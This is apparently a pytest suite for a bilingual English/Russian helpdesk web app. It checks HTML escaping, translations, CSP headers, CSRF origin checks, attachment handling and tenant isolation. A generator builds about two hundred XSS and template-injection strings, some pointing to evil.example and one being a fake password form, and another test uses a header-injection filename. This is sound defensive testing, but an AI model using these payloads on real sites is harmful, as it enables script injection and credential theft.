"""The pages: strangers' text is only text, both languages are whole, and forms come from ourselves alone."""

from collections import Counter
from collections.abc import Iterator, Mapping, Sequence
from dataclasses import replace
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlencode

import msgspec
import pytest

from collector.store.base import Attachment, EntryKind, Ticket, TicketState
from collector.web import words
from collector.web.pages import hosts, ticket, trouble
from collector.web.pages.frame import environment, preferred, render
from collector.web.remedies import Remedy, remedies_for
from collector.web.standing import in_order
from contract.errors import KINDS
from contract.evidence import BeforeAfter
from contract.finding import Severity
from contract.sample import Sample
from contract.text import Language, Text
from tests.fakes import cases
from tests.fakes.desk import FULL, Collector, Reply, a_report, an_item
from tests.fakes.stains import stained

pytestmark = pytest.mark.anyio
LANGUAGES: tuple[Language, ...] = ("en", "ru")
REMEDY = Remedy("end-it", "1.0.0", Text("End it", "Завершить"), "low", Text("May I?", "Можно?"))
COMMON: dict[str, object] = {"user": cases.USER, "here": "/tickets/12", "now": cases.NOW}


def payloads() -> Iterator[str]:
    """Yield two hundred ways to be more than text."""
    openings = (
        "",
        '"',
        "'",
        '">',
        "'>",
        "</p>",
        "</textarea>",
        "</title>",
        "]]>",
        "--><",
        "</pre>",
        "{{",
        "{%",
        "\\",
        "`",
    )
    acts = (
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg/onload=alert(1)>",
        "<a href=javascript:alert(1)>x</a>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<style>*{display:none}</style>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        "<form action=//evil.example><input name=password>",
        " onmouseover=alert(1) x=",
        "<base href=//evil.example>",
        "<!--",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "{{ 7*7 }}{{ self.__init__.__globals__ }}",
        "\x00<script\x0b>alert(1)</script>",
    )
    for opening in openings:
        for act in acts:
            yield opening + act


class Shape(HTMLParser):
    """What a browser would build: which elements with which attributes, and the text between."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.elements: Counter[str] = Counter()
        self.links: list[str] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Count the element."""
        self.elements[f"{tag} {' '.join(sorted(name for name, _ in attrs))}"] += 1
        self.links += [value or "" for name, value in attrs if name in {"href", "src", "action"}]

    def handle_data(self, data: str) -> None:
        """Keep the text."""
        self.text += data


def ticket_page(payload: str, language: Language) -> str:
    """Return a ticket's page with *payload* in every field an agent or a customer fills."""
    report = stained(cases.REPORT, payload)
    # The finding must still be the ticket's, and the shadow its own, or they would not be shown at all.
    first = report.findings[0]
    shadow = msgspec.structs.replace(report.findings[1], explained_by=(first.key,), where={})
    cause = msgspec.structs.replace(first, explained_by=())
    report = msgspec.structs.replace(report, findings=(cause, shadow))
    # What was measured may be words as well as numbers.
    pair = BeforeAfter(Sample("service.result", "exit-code", "text"), Sample("service.result", "success", "text"))
    evidence = msgspec.structs.replace(cases.EVIDENCE, measured=(*cases.EVIDENCE.measured, pair), detail="why")
    worded = msgspec.structs.replace(cases.RECORD, evidence=evidence)
    case = replace(
        cases.FIXED_CASE,
        ticket=msgspec.structs.replace(stained(cases.FIXED_TICKET, payload), cause=cause.key),
        host=stained(cases.HOST, payload),
        entries=stained(cases.ENTRIES, payload),
        orders=[stained(record, payload) for record in (worded, cases.QUEUED)],
        attachments=[payload],
        reports=(report,),
    )
    remedy = Remedy(payload, payload, Text(payload, payload), "low", Text(payload, payload))
    return render("ticket.html", language, **COMMON | ticket.shown(case, [remedy], cases.NOW))


def host_page(payload: str, language: Language) -> str:
    """Return a machine's page with *payload* in every field an agent fills."""
    vitals = [stained(vital, payload) for vital in cases.VITALS]
    report = msgspec.structs.replace(stained(cases.REPORT, payload))
    report = msgspec.structs.replace(
        report, findings=tuple(msgspec.structs.replace(one, explained_by=()) for one in report.findings)
    )
    shown = hosts.shown(stained(cases.HOST, payload), report, vitals, [stained(cases.TICKET, payload)], cases.NOW)
    return render("host.html", language, **COMMON | shown)


def list_page(payload: str, language: Language) -> str:
    """Return the queue and the list of machines with *payload* in every field an agent fills."""
    host, one = stained(cases.HOST, payload), stained(cases.TICKET, payload)
    queue = {"tickets": [one], "names": {payload: payload}, "hosts": [host], "with_closed": True}
    rows = {"rows": hosts.rows_of([host], [one], cases.NOW)}
    return render("tickets.html", language, **COMMON | queue) + render("hosts.html", language, **COMMON | rows)


@pytest.mark.slow
@pytest.mark.parametrize("page", [ticket_page, host_page, list_page])
def test_two_hundred_payloads_in_every_field_are_only_text(page: Any) -> None:
    """A host name of markup would otherwise run in the browser of whoever may repair every machine."""
    plain = Shape(page("plain", "en"))
    assert plain.text.count("plain") > 4
    for payload in payloads():
        shape = Shape(page(payload, "en"))
        assert shape.elements == plain.elements, payload
        assert all(link.startswith(("/", "#", "data:,")) and not link.startswith("//") for link in shape.links), payload


def test_two_hundred_are_two_hundred() -> None:
    """The promise is a number."""
    assert len(set(payloads())) >= 200


@pytest.mark.parametrize("page", [ticket_page, host_page, list_page])
def test_what_steers_a_screen_is_written_out(page: Any) -> None:
    """Text that runs backwards or hides itself makes a technician order what they did not read."""
    shown = page("ev\u202eil\x1b[2J\u200b", "en")
    assert not {"\u202e", "\x1b", "\u200b"} & set(shown)
    assert "ev\\u202eil\\x1b[2J\\u200b" in shown


@pytest.mark.parametrize("language", LANGUAGES)
@pytest.mark.parametrize("state", list(TicketState))
@pytest.mark.parametrize("severity", list(Severity))
def test_every_state_has_its_words(language: Language, state: TicketState, severity: Severity) -> None:
    """A state without a word would be an error page in the middle of the work."""
    one = msgspec.structs.replace(cases.TICKET, state=state, severity=severity)
    for case in (replace(cases.OPEN_CASE, ticket=one), replace(cases.FIXED_CASE, ticket=one, host=None)):
        page = render("ticket.html", language, **COMMON | ticket.shown(case, [REMEDY], cases.NOW))
        word = words.SEVERITY[severity] if state is TicketState.OPEN else words.STATE[state.value]
        assert word.in_language(language) in page


@pytest.mark.parametrize("language", LANGUAGES)
def test_everything_that_can_happen_to_an_order_is_told(language: Language) -> None:
    """Verdicts and steps come from machines; none may be without a word."""
    for verdict in words.VERDICT:
        evidence = msgspec.structs.replace(cases.EVIDENCE, verdict=verdict, reason="policy-denied", detail="no")
        record = msgspec.structs.replace(cases.RECORD, evidence=evidence)
        case = replace(cases.OPEN_CASE, orders=(record,))
        page = render("ticket.html", language, **COMMON | ticket.shown(case, [], cases.NOW))
        assert words.VERDICT[verdict].in_language(language) in page
    for end in words.STEP:
        step = msgspec.structs.replace(cases.EVIDENCE.steps[0], end=end)
        evidence = msgspec.structs.replace(cases.EVIDENCE, steps=(step,))
        case = replace(cases.OPEN_CASE, orders=(msgspec.structs.replace(cases.RECORD, evidence=evidence),))
        page = render("ticket.html", language, **COMMON | ticket.shown(case, [], cases.NOW))
        assert words.STEP[end].in_language(language) in page


def test_a_fixed_ticket_shows_before_and_after_first() -> None:
    """The proof is what everybody came for."""
    page = render("ticket.html", "en", **COMMON | ticket.shown(cases.FIXED_CASE, [REMEDY], cases.NOW))
    text = Shape(page).text
    assert text.index("Before and after") < text.index("Evidence") < text.index("Story")
    assert page.count("<caption>") == 1, "once, not again beside its order"
    assert "56%" in text
    assert "4.0%" in text
    assert "The computer is quick again." in text


def test_an_order_for_a_sleeping_machine_says_until_when() -> None:
    """Otherwise a technician orders it again and again."""
    away = msgspec.structs.replace(cases.HOST, seen_at=cases.NOW - timedelta(hours=3))
    case = replace(cases.OPEN_CASE, host=away, orders=(cases.QUEUED,))
    page = render("ticket.html", "en", **COMMON | ticket.shown(case, [], cases.NOW))
    assert "not connected" in page
    assert "until 22\u00a0Nov 2026, 17:05\u00a0UTC" in page


def test_every_word_of_the_table_is_used_and_said_in_both_languages() -> None:
    """Dead words rot, and a missing translation is found by the one who needs it."""
    folder = Path(words.__file__).parent
    sources = [*folder.glob("templates/*.html"), *folder.glob("pages/*.py")]
    sources += [*folder.parents[1].glob("collector/*_text.py"), *folder.parents[1].glob("commands/*.py")]
    used = "".join(path.read_text() for path in sources)
    for name, text in words.PAGE.items():
        assert f"w.{name}" in used or f'"{name}"' in used or f"'{name}'" in used, name
        assert text.ru != text.en, name
        assert any("а" <= letter <= "я" for letter in text.ru.lower()), name


@pytest.mark.parametrize(
    ("count", "russian", "english"),
    [
        (0, "0 заявок", "0 tickets"),
        (1, "1 заявка", "1 ticket"),
        (2, "2 заявки", "2 tickets"),
        (5, "5 заявок", "5 tickets"),
        (11, "11 заявок", "11 tickets"),
        (21, "21 заявка", "21 tickets"),
        (112, "112 заявок", "112 tickets"),
        (124, "124 заявки", "124 tickets"),
    ],
)
def test_numbers_take_their_form(count: int, russian: str, english: str) -> None:
    """Wrong plurals read like a machine that does not care."""
    assert (words.count_tickets(count, "ru"), words.count_tickets(count, "en")) == (russian, english)
    assert words.count_hosts(count, "ru").startswith(f"{count} машин")


@pytest.mark.parametrize(
    ("header", "language"),
    [
        ("", "en"),
        ("ru-RU,ru;q=0.9,en;q=0.8", "ru"),
        ("en-US,en;q=0.9,ru;q=0.1", "en"),
        ("de, ru;q=0.5", "ru"),
        ("ru;q=0.5, en;q=0.7", "en"),
        ("ru;q=nonsense", "en"),
        ("*;q=1," * 5000, "en"),
        ("ru;q=0", "en"),
    ],
)
def test_the_browser_says_which_language(header: str, language: str) -> None:
    """Nobody should have to look for the switch."""
    assert preferred(header) == language


def test_the_queue_begins_with_what_burns() -> None:
    """The first line is where the next minute of work goes."""

    def one(number: int, severity: Severity, state: TicketState = TicketState.OPEN) -> Ticket:
        return msgspec.structs.replace(cases.TICKET, number=number, severity=severity, state=state)

    queue = [
        one(1, Severity.LOW),
        one(2, Severity.CRITICAL, TicketState.FIXED),
        one(3, Severity.CRITICAL),
        one(4, Severity.HIGH),
        one(5, Severity.HIGH, TicketState.SILENT),
    ]
    assert [each.number for each in in_order(queue)] == [3, 4, 1, 5, 2]


def test_charts_are_of_this_hour_and_numbers_alone() -> None:
    """A clock that is years off must not squeeze the hour into one pixel."""
    odd = msgspec.structs.replace(cases.VITALS[0], at=cases.NOW - timedelta(days=900))
    text = msgspec.structs.replace(cases.VITALS[0], samples=(Sample("os.name", "linux"), Sample("flag", True)))  # noqa: FBT003 - a sample's value
    charts = hosts.charts_of([odd, text, *cases.VITALS], cases.NOW)
    assert [chart.last.name for chart in charts] == [
        "system.cpu.utilization",
        "system.memory.utilization",
        "system.linux.memory.available",
    ]
    xs = [float(point.split(",")[0]) for point in charts[0].points.split()]
    assert xs[0] == 0
    assert xs[-1] == 240
    assert xs == sorted(xs)


def test_no_page_needs_script_or_style_of_its_own() -> None:
    """The policy forbids both; a page that tried would look broken."""
    for name in environment("en").list_templates():
        source = (Path(words.__file__).parent / "templates" / name).read_text()
        assert "<script" not in source
        assert " style=" not in source
        assert "|safe" not in source.replace(" ", "")


async def ask(collector: Collector, path: str, form: Mapping[str, str] | None = None, **headers: str) -> Reply:
    """Ask as Ada's browser does; with *form*, send it as our own page would."""
    headers = {name.replace("_", "-"): value for name, value in headers.items()}
    sent = {"cookie": f"__Host-feldsher={collector.tokens['ada']}", "accept": "text/html"}
    if form is None:
        return await collector.ask("GET", path, headers=sent | headers)
    sent |= {"origin": "https://desk.test", "content-type": "application/x-www-form-urlencoded"}
    return await collector.ask("POST", path, urlencode(form).encode(), headers=sent | headers)


async def a_case(collector: Collector) -> str:
    """Let a machine report a full disk; return its id. The ticket is number 1."""
    agent = await collector.enrol()
    await agent.post(an_item("report-1", "report", a_report(FULL)))
    return agent.host.id


@pytest.mark.parametrize("path", ["/tickets", "/tickets?closed=1", "/tickets/1", "/hosts", "/hosts/{host}", "/sign-in"])
async def test_every_page_is_shown_and_forbids_what_it_does_not_need(collector: Collector, path: str) -> None:
    """The last line of defence if one escape were forgotten."""
    host = await a_case(collector)
    cookie = "" if path == "/sign-in" else f"__Host-feldsher={collector.tokens['ada']}"
    reply = await ask(collector, path.format(host=host), cookie=cookie)
    assert reply.status == 200, reply.body
    policy = reply.headers["content-security-policy"]
    assert policy == (
        "default-src 'none'; style-src 'self'; img-src 'self' data:; form-action 'self'; "
        "frame-ancestors 'none'; base-uri 'none'"
    )
    assert reply.headers["x-content-type-options"] == "nosniff"
    assert reply.headers["cache-control"] == "no-store"
    assert "unsafe" not in policy


async def test_the_style_is_there_for_strangers_too(collector: Collector) -> None:
    """The page to sign in at is a page as well."""
    reply = await collector.ask("GET", "/static/style.css")
    assert reply.status == 200
    assert reply.headers["content-type"].startswith("text/css")


async def test_the_language_is_chosen_once(collector: Collector) -> None:
    """Who said "RU" on one page is not asked again on the next."""
    reply = await ask(collector, "/tickets?lang=ru")
    assert "Заявки" in reply.body.decode()
    cookie = reply.headers["set-cookie"]
    assert cookie.startswith("__Host-feldsher-language=ru;")
    kept = f"__Host-feldsher={collector.tokens['ada']}; __Host-feldsher-language=ru"
    again = await ask(collector, "/tickets", cookie=kept, accept_language="en")
    assert again.headers["content-language"] == "ru"


async def test_a_note_and_closing_are_on_the_story_and_the_record(collector: Collector) -> None:
    """What a person did is told with their name, and cannot be denied later."""
    await a_case(collector)
    assert (await ask(collector, "/tickets/1/notes", {"text": "Called <b>back</b>\r\nNobody"})).status == 303
    assert (await ask(collector, "/tickets/1/close", {})).status == 303
    assert (await ask(collector, "/tickets/1/close", {})).status == 303
    one, entries, audit = await collector.parts.store.look(
        lambda records: (records.ticket("home", 1), records.entries("home", 1), records.audit_lines())
    )
    assert one is not None
    assert one.state is TicketState.CLOSED
    assert [(entry.kind, entry.by) for entry in entries[1:]] == [(EntryKind.NOTE, "ada"), (EntryKind.CLOSED, "ada")]
    assert entries[1].text.en == "Called <b>back</b>\nNobody"
    assert [line.act for line in audit if line.who == "ada"][-2:] == ["noted", "closed"]
    page = (await ask(collector, "/tickets/1")).body.decode()
    assert "Called &lt;b&gt;back&lt;/b&gt;" in page


@pytest.mark.parametrize(("button", "check_only"), [("plan", True), ("repair", False), ("", True), ("REPAIR", True)])
async def test_the_repair_button_gives_the_order_with_the_findings_place(
    collector: Collector, button: str, check_only: bool
) -> None:
    """One click to the fix; anything but that very button changes nothing."""
    host = await a_case(collector)
    reply = await ask(collector, "/tickets/1/repair", {"playbook": "free-disk-space", "do": button})
    assert reply.status == 303, reply.body
    assert reply.headers["location"].startswith("/tickets/1?wait=o-")
    [record] = await collector.parts.store.look(lambda records: records.orders_on("home", 1))
    order = record.order
    assert (order.host, order.by, order.ticket, order.check_only) == (host, "ada", "1", check_only)
    assert order.params["mount"] == "/"
    page = (await ask(collector, "/tickets/1?wait=no-such-order")).body.decode()
    assert "waiting for the machine" in page


@pytest.mark.parametrize(
    ("headers", "status", "slug"),
    [
        ({"origin": "https://evil.example"}, 403, "forbidden"),
        ({"origin": "null"}, 403, "forbidden"),
        ({"origin": "http://desk.test"}, 403, "forbidden"),
        ({"sec-fetch-site": "cross-site"}, 403, "forbidden"),
        ({"sec-fetch-site": "same-site"}, 403, "forbidden"),
        ({"content-type": "text/plain"}, 415, "unsupported-media"),
        ({"content-type": "multipart/form-data; boundary=x"}, 415, "unsupported-media"),
    ],
)
async def test_a_form_from_elsewhere_does_nothing(
    collector: Collector, headers: Mapping[str, str], status: int, slug: str
) -> None:
    """A page a technician merely visits must not order repairs in their name."""
    await a_case(collector)
    form = {"playbook": "free-disk-space", "do": "repair"}
    reply = await ask(
        collector,
        "/tickets/1/repair",
        form,
        **{"accept": "*/*"} | {name.replace("-", "_"): value for name, value in headers.items()},
    )
    assert (reply.status, reply.slug) == (status, slug)
    assert not await collector.parts.store.look(lambda records: records.orders_on("home", 1))


@pytest.mark.parametrize(
    ("body", "slug"),
    [
        (b"text=" + b"x" * 70_000, "too-large"),
        (b"text=" + "ж".encode(), "bad-request"),
        (b"text=%ff%fe", "bad-request"),
        (b"&".join(b"f%d=1" % number for number in range(50)), "bad-request"),
        (b"text=a&text=b", "bad-request"),
        (b"text=+++", "limit"),
        (b"", "limit"),
        (b"text=" + b"x" * 10_001, "limit"),
    ],
)
async def test_a_form_that_is_none_of_ours_is_refused_in_one_line(collector: Collector, body: bytes, slug: str) -> None:
    """Garbage must cost nothing and change nothing."""
    await a_case(collector)
    headers = {
        "cookie": f"__Host-feldsher={collector.tokens['ada']}",
        "origin": "https://desk.test",
        "content-type": "application/x-www-form-urlencoded",
    }
    reply = await collector.ask("POST", "/tickets/1/notes", body, headers=headers)
    assert reply.slug == slug
    assert reply.status == KINDS[slug].status


async def test_a_mistake_is_a_page_for_people_and_a_document_for_programs(collector: Collector) -> None:
    """Nobody at a desk should read JSON; nothing that reads JSON should get a page."""
    page = await ask(collector, "/tickets/99")
    assert (page.status, page.headers["content-type"]) == (404, "text/html; charset=utf-8")
    assert b"there is no ticket 99" in page.body
    assert (await ask(collector, "/tickets/99", accept="application/json")).slug == "not-found"
    assert (await ask(collector, "/hosts/<script>")).status == 404
    assert trouble.in_words.__doc__


async def test_an_attachment_is_downloaded_never_shown(collector: Collector) -> None:
    """What an agent wrote must not run in our name, whatever it claims to be."""
    await a_case(collector)
    evil = Attachment(name='x".html\r\nSet-Cookie: a=b', media_type="text/html", content=b"<script>alert(1)</script>")
    await collector.parts.store.change(lambda records: records.attach("home", 1, evil))
    link = "/tickets/1/attachments/" + evil.name
    reply = await ask(collector, link)
    assert reply.body == evil.content
    assert reply.headers["content-type"] == "application/octet-stream"
    assert reply.headers["content-disposition"].startswith("attachment; filename*=UTF-8''x%22.html%0D%0A")
    assert "sandbox" in reply.headers["content-security-policy"]
    assert (await ask(collector, "/tickets/1/attachments/none.json")).status == 404


async def test_another_organisations_ticket_is_not_there(collector: Collector) -> None:
    """Whether it exists is not theirs to know."""
    other = msgspec.structs.replace(cases.TICKET, organisation="elsewhere")
    number = await collector.parts.store.change(lambda records: records.open_ticket(other))
    assert (await ask(collector, f"/tickets/{number}")).status == 404
    assert (await ask(collector, f"/tickets/{number}/notes", {"text": "hello"})).status == 404


def test_offered_repairs_are_of_the_library_and_filled_in() -> None:
    """A rule may name a playbook that is gone; the page must not."""
    finding = msgspec.structs.replace(FULL, remedy=("free-disk-space", "no-such-playbook"))
    [remedy] = remedies_for(finding)
    assert remedy.name == "free-disk-space"
    assert "{" not in remedy.title.en + remedy.title.ru
    assert remedy.risk in words.RISK
    assert remedies_for(None) == []


def test_a_fixed_ticket_knows_its_finding_from_the_evidence() -> None:
    """Once repaired it stands in no report; the page must not lose what it was."""
    case = replace(cases.FIXED_CASE, reports=(cases.QUIET,))
    finding, report = ticket.seen_last(case)
    assert finding == cases.FINDING
    assert report is None
    seen: Sequence[object] = ticket.seen_last(replace(case, orders=()))
    assert seen == (None, None)
